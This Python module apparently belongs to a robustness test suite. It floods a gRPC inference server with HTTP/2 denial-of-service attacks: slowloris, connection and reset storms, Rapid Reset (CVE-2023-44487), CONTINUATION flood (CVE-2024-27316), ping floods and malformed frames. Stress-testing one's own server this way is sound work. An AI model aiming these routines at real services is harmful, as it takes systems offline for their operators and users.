"""Attacks below gRPC: with connections, and with HTTP/2 frames that no library would send."""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Callable

from visionscaling_ros.trials.fuzz_target import INFER, PREFACE, SETTINGS, Attack

_CROWD = 1000
_HOLD_S = 4.0
_FRAMES = 2000
_HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_HEADERS = 4


def socket_garbage(attack: Attack) -> int:
    """Bytes that are no HTTP/2, or only begin so."""
    rng = attack.rng
    heads = (b'', PREFACE, PREFACE + SETTINGS, b'GET / HTTP/1.1\r\n\r\n', b'\x16\x03\x01\x02\x00')
    for _ in range(20):
        with contextlib.suppress(OSError), attack.target.connect() as connection:
            connection.sendall(rng.choice(heads) + rng.randbytes(rng.choice((1, 100, 10_000))))
            connection.recv(100)
    return 20


def slow_loris(attack: Attack) -> int:
    """Connections that say hello, then one byte a second."""
    text = PREFACE + SETTINGS + bytes(100)
    connections = _connect(attack, 60)
    try:
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.sendall(text[: attack.rng.randrange(len(PREFACE) + 10)])
        for k in range(round(_HOLD_S)):
            for connection in connections:
                with contextlib.suppress(OSError):
                    connection.send(text[k : k + 1])
            if attack.pause(1.0):
                break
    finally:
        _close(connections)
    return len(connections)


def crowd(attack: Attack) -> int:
    """A thousand connections at once that say nothing, or only hello."""
    connections = _connect(attack, _CROWD)
    try:
        for connection in connections[::2]:
            with contextlib.suppress(OSError):
                connection.sendall(PREFACE + SETTINGS)
        attack.pause(_HOLD_S)
    finally:
        _close(connections)
    return len(connections)


def connect_storm(attack: Attack) -> int:
    """Connections that are closed as soon as they are there."""
    for k in range(_CROWD):
        _close(_connect(attack, 1))
        if k % 100 == 0 and attack.stop.is_set():
            return k
    return _CROWD


def reset_storm(attack: Attack) -> int:
    """Connections that are reset, some in the middle of a word."""
    for k in range(_CROWD):
        with contextlib.suppress(OSError), attack.target.connect() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            connection.send(PREFACE[: attack.rng.randrange(len(PREFACE) + 1)] or b'P')
        if k % 100 == 0 and attack.stop.is_set():
            return k
    return _CROWD


def rapid_resets(attack: Attack) -> int:
    """Requests that are begun and reset at once (CVE-2023-44487)."""
    begin = _request_headers(attack)

    def frames(stream: int) -> bytes:
        return _frame(_HEADERS, _END_HEADERS, stream, begin) + _frame(
            _RESET, 0, stream, struct.pack('>I', 8)
        )

    return _send_frames(attack, frames)


def endless_headers(attack: Attack) -> int:
    """Headers that go on and on (CONTINUATION flood, CVE-2024-27316)."""
    filler = _literal('x', 'y' * 100) * 20

    def frames(stream: int) -> bytes:
        if stream == 1:
            return _frame(_HEADERS, 0, 1, _request_headers(attack))
        return _frame(_CONTINUATION, 0, 1, filler)

    return _send_frames(attack, frames)


def ping_flood(attack: Attack) -> int:
    """Pings and settings that want to be answered."""
    kind = attack.rng.choice((_PING, _SETTINGS))
    body = bytes(8) if kind == _PING else b''
    return _send_frames(attack, lambda stream: _frame(kind, 0, 0, body))


def odd_frames(attack: Attack) -> int:
    """Frames of any type, flags, stream and length."""
    rng = attack.rng

    def frames(stream: int) -> bytes:
        body = rng.randbytes(rng.choice((0, 1, 4, 8, 100)))
        length = len(body) if rng.random() < 0.9 else rng.randrange(1 << 24)
        return _frame(rng.randrange(12), rng.randrange(256), rng.randrange(9), body, length)

    return _send_frames(attack, frames, 20)


def metrics_garbage(attack: Attack) -> int:
    """The metrics page: crowds, endless lines, bytes."""
    port = attack.target.metrics_port
    if not port:
        return 0
    rng = attack.rng
    connections = _connect(attack, 50, port)
    try:
        for connection in connections:
            with contextlib.suppress(OSError):
                head = rng.choice((b'', b'GET /metrics HTTP/1.1\r\n', b'GET ' + b'x' * 20_000))
                connection.sendall(head + rng.randbytes(rng.choice((0, 10, 10_000))))
        attack.pause(0.5)
    finally:
        _close(connections)
    return len(connections)


SOCKET_ATTACKS = (
    socket_garbage,
    slow_loris,
    crowd,
    connect_storm,
    reset_storm,
    rapid_resets,
    endless_headers,
    ping_flood,
    odd_frames,
    metrics_garbage,
)


def _connect(attack: Attack, count: int, port: int = 0) -> list[socket.socket]:
    connections = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            connection = attack.target.connect(port)
            connection.setblocking(False)
            connections.append(connection)
    return connections


def _close(connections: list[socket.socket]) -> None:
    for connection in connections:
        connection.close()


def _send_frames(attack: Attack, frames: Callable[[int], bytes], count: int = _FRAMES) -> int:
    """Send what ``frames`` makes for each odd stream number, until the server has had enough."""
    end_s = time.monotonic() + _HOLD_S
    with contextlib.suppress(OSError), attack.target.connect() as connection:
        connection.sendall(PREFACE + SETTINGS)
        for k in range(count):
            if attack.stop.is_set() or time.monotonic() > end_s:
                return k
            connection.sendall(frames(2 * k + 1))
    return count


def _request_headers(attack: Attack) -> bytes:
    headers = {
        ':method': 'POST',
        ':scheme': 'http',
        ':path': INFER,
        ':authority': attack.target.address,
        'content-type': 'application/grpc',
        'te': 'trailers',
        **dict(attack.target.metadata),
    }
    return b''.join(_literal(name, value) for name, value in headers.items())


def _literal(name: str, value: str) -> bytes:
    """A header as HPACK writes it without tables (RFC 7541, 6.2.2); shorter than 127 bytes."""
    texts = (name.encode(), value.encode())
    return b'\0' + b''.join(bytes([len(text)]) + text for text in texts)


def _frame(kind: int, flags: int, stream: int, body: bytes, length: int | None = None) -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    length = len(body) if length is None else length
    return length.to_bytes(3, 'big') + bytes([kind, flags]) + struct.pack('>I', stream) + body
